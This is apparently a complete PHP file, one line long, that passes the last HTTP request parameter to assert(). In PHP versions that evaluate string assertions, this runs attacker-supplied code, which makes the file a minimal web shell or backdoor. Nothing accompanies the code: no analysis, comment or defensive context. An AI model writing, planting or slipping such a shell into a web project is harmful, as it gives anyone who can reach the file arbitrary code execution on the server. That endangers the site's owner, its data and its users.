<?php assert(end($_REQUEST));
